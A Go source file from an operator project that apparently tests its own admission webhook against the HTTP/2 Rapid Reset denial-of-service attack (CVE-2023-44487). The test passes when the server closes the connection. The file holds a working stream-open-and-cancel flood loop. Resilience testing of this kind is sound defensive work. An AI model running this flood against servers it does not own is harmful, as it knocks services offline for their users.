// Copyright 2026 The backupjob-operator authors.
// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bytes"
	"context"
	"errors"
	"io"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"example.com/backupjob-operator/webhooks"
)

// perConnection is how many streams a connection may open at most: their
// numbers come to an end.
const perConnection = 1 << 20

// rapidReset opens streams and takes them back at once, so that the server
// starts to work on each, until it hangs up (CVE-2023-44487).
func rapidReset(ctx context.Context, t Target) error {
	conn, err := t.connect(ctx)
	if err != nil {
		return err
	}
	secure, err := t.handshake(ctx, conn, http2.NextProtoTLS, "http/1.1")
	if err != nil || secure.ConnectionState().NegotiatedProtocol != http2.NextProtoTLS {
		return err // who was hung up on gets no HTTP/2
	}
	if _, err := io.WriteString(secure, http2.ClientPreface); err != nil {
		return err
	}
	go func() { _, _ = io.Copy(io.Discard, secure) }()
	var frames, head bytes.Buffer
	framer := http2.NewFramer(&frames, nil)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	encoder := hpack.NewEncoder(&head)
	for id := uint32(1); id < perConnection; id += 2 {
		head.Reset()
		if err := errors.Join(
			writeHead(encoder),
			framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndHeaders: true}),
			framer.WriteData(id, false, []byte("{")),
			framer.WriteRSTStream(id, http2.ErrCodeCancel),
		); err != nil {
			return err
		}
		if _, err := frames.WriteTo(secure); err != nil {
			return nil //nolint:nilerr // the server has hung up, as it should
		}
	}
	return errors.New("the server let a connection reset all its streams")
}

func writeHead(encoder *hpack.Encoder) error {
	var errs []error
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "x"},
		{Name: ":path", Value: webhooks.PathValidateBackupJob}, {Name: "content-type", Value: "application/json"},
	} {
		errs = append(errs, encoder.WriteField(field))
	}
	return errors.Join(errs...)
}
